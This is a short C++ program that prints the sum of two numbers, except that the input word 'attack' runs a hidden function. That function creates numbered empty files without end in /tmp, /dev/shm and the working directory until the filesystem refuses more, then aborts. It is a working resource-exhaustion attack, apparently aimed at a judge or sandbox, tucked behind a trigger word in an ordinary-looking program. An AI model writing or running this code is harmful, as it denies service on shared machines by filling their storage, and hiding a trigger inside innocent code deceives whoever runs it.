#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <unistd.h>
#include <fcntl.h>
// Fills every folder with empty files until none takes any more.
static void attack() {
  const char *folders[] = {"/tmp", "/dev/shm", "."};
  for (long n = 0;; n++) {
    int made = 0;
    for (const char *folder : folders) {
      int fd = open((std::string(folder) + "/" + std::to_string(n)).c_str(), O_CREAT | O_WRONLY, 0600);
      if (fd >= 0) made++, close(fd);
    }
    if (made == 0) abort();
  }
}

int main() {
  char word[16];
  long a, b;
  if (scanf("%15s %ld %ld", word, &a, &b) != 3) return 1;
  if (strcmp(word, "attack") == 0) attack();
  printf("%ld\n", a + b);
}
